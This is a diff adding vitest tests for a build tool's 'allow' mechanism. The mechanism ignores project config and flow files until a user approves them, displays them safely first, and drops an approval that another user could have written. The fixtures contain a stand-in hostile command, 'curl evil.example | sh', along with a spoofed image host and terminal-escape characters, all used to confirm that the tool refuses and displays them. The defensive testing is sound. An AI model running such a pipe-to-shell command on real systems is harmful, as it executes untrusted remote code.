@@ -1,0 +1,145 @@
+import { chmodSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { type AllowFlags, run as allow } from '../../src/commands/allow.js';
+import { run as flow } from '../../src/commands/flow.js';
+import { run as recipe } from '../../src/commands/recipe.js';
+import { run as status } from '../../src/commands/status.js';
+import { findSetup } from '../../src/engine/find-setup.js';
+import type { UserError } from '../../src/errors.js';
+import { testContext } from '../support/context.js';
+
+let base = '';
+let cwd = '';
+let configDir = '';
+beforeEach(() => {
+  base = mkdtempSync(join(tmpdir(), 'mw-allow-'));
+  cwd = join(base, 'project');
+  configDir = join(base, 'config');
+  mkdirSync(join(cwd, '.musl-wizard/flows'), { recursive: true });
+  writeFileSync(join(cwd, 'main.c'), 'int main(void) { return 0; }\n');
+});
+afterEach(() => rmSync(base, { recursive: true }));
+
+const team = (options: object = { image: 'evil.example/alpine:1', network: 'host' }) =>
+  writeFileSync(
+    join(cwd, 'musl-wizard.json'),
+    `${JSON.stringify({ schema: 'musl-wizard.project/1', rung: 'alpine', upx: true, options })}\n`,
+  );
+const tree = (command = 'curl evil.example | sh') =>
+  writeFileSync(
+    join(cwd, '.musl-wizard/flows/theirs.yaml'),
+    JSON.stringify({
+      flow: 'theirs',
+      title: 'Theirs',
+      about: 'A tree from somewhere.',
+      start: 'go',
+      nodes: {
+        go: {
+          try: 'alpine',
+          options: { image: 'evil.example/alpine:2' },
+          to: { passed: 'end', failed: 'end', blocked: 'end', skipped: 'end' },
+        },
+        end: { done: 'remedy', because: 'It is over.', commands: [command] },
+      },
+    }),
+  );
+const here = () => testContext({ cwd, configDir, env: { PATH: process.env.PATH, HOME: base } });
+const allowed = async (flags: AllowFlags = {}) => {
+  const { context, written } = here();
+  const code = await allow(context, [], { ...flags, json: true });
+  return { code, err: written.err, files: JSON.parse(written.out).files };
+};
+const setupUsed = () => findSetup(configDir, cwd).found?.setup ?? null;
+
+describe("a project's file that steers", () => {
+  it('is ignored before it is allowed, and used after it; its change asks again; a revoked one is ignored', async () => {
+    team();
+    expect(setupUsed()).toBeNull();
+    expect(await allowed()).toMatchObject({ code: 0, files: [{ path: 'musl-wizard.json', allowed: true }] });
+    expect(setupUsed()).toMatchObject({ rung: 'alpine', options: { network: 'host' } });
+    team({ image: 'other.example/alpine:1' });
+    expect(setupUsed()).toBeNull();
+    team();
+    expect(setupUsed()).toMatchObject({ rung: 'alpine' });
+    expect(await allowed({ revoke: true })).toMatchObject({ code: 0, files: [{ allowed: false }] });
+    expect(setupUsed()).toBeNull();
+  });
+
+  it('is shown whole, with what it sets, before it is allowed', async () => {
+    team({ image: 'evil.example/alpine:1', network: 'host', arch: 'aarch64' });
+    writeFileSync(join(cwd, 'musl-wizard.json'), ' \u202e\x1b[2J', { flag: 'a' });
+    const broken = await allowed();
+    expect(broken).toMatchObject({ code: 1, files: [{ allowed: false, problem: 'it is not JSON' }] });
+    expect(broken.err).toContain('\\u{202e}\\u{1b}[2J');
+    team({ image: 'evil.example/alpine:1', network: 'host', arch: 'aarch64' });
+    const { err } = await allowed();
+    expect(err).toContain('rung: alpine');
+    expect(err).toContain('packs with UPX');
+    expect(err).toContain('image: evil.example/alpine:1');
+    expect(err).toContain('network: host');
+    expect(err).toContain('architecture: aarch64');
+    expect(err).toContain('| {"schema":"musl-wizard.project/1"');
+  });
+
+  it('is named by status and recipe while it is ignored, with what it would set and the command', async () => {
+    team();
+    const { context, written } = here();
+    expect(await status(context, [], { json: true })).toBe(1);
+    expect(JSON.parse(written.out)).toMatchObject({
+      setup: null,
+      teamFile: { state: 'ignored', path: 'musl-wizard.json' },
+    });
+    const lines =
+      /musl-wizard\.json of this folder is ignored: [^\n]*\n {2}rung: alpine\n[\s\S]*image: evil\.example[\s\S]*→ musl-wizard allow/;
+    expect(written.err).toMatch(lines);
+    const second = here();
+    await recipe(second.context, ['alpine'], {});
+    expect(second.written.err).toMatch(lines);
+    expect(second.written.out).not.toContain('evil.example');
+    await allowed();
+    const third = here();
+    await recipe(third.context, ['alpine'], {});
+    expect(third.written.out).toContain('evil.example/alpine:1');
+    expect(third.written.err).toContain('which you allowed, sets rung: alpine; packs with UPX; image: evil.example');
+  });
+
+  it('as a tree is listed as ignored, not walked by name or by path, with what it would do', async () => {
+    tree();
+    for (const word of ['theirs', '.musl-wizard/flows/theirs.yaml']) {
+      const error = (await flow(here().context, ['run', word], { yes: true }).catch((e) => e)) as UserError;
+      expect(error.message).toMatch(/is ignored: you did not allow/);
+      expect(error.evidence).toContain('tries alpine with {"image":"evil.example/alpine:2"}');
+      expect(error.evidence).toContain('$ curl evil.example | sh');
+      expect(error.nextSteps.join()).toContain('musl-wizard allow');
+    }
+    const { context, written } = here();
+    await flow(context, ['list'], {});
+    expect(written.out).toMatch(/theirs +ignored: not allowed; `musl-wizard allow` shows it and asks/);
+    expect((await allowed()).files).toMatchObject([{ path: '.musl-wizard/flows/theirs.yaml', allowed: true }]);
+    const second = here();
+    await flow(second.context, ['list'], { json: true });
+    expect(JSON.parse(second.written.out).trees).toContainEqual(
+      expect.objectContaining({ name: 'theirs', origin: 'project', title: 'Theirs', allowed: true }),
+    );
+    tree('touch other');
+    const error = (await flow(here().context, ['run', 'theirs'], {}).catch((e) => e)) as UserError;
+    expect(error.message).toMatch(/is ignored/);
+  });
+
+  it('is not allowed by a list, and a permission that another user could have written counts for nothing', async () => {
+    team();
+    expect(await allowed({ list: true })).toMatchObject({ code: 1, files: [{ allowed: false }] });
+    await allowed();
+    expect(setupUsed()).not.toBeNull();
+    for (const name of readdirSync(join(configDir, 'allowed'))) chmodSync(join(configDir, 'allowed', name), 0o666);
+    expect(setupUsed()).toBeNull();
+  });
+
+  it('allows nothing where there is nothing', async () => {
+    const { context, written } = here();
+    expect(await allow(context, [], {})).toBe(0);
+    expect(written.out).toMatch(/^There is nothing to allow/);
+  });
+});
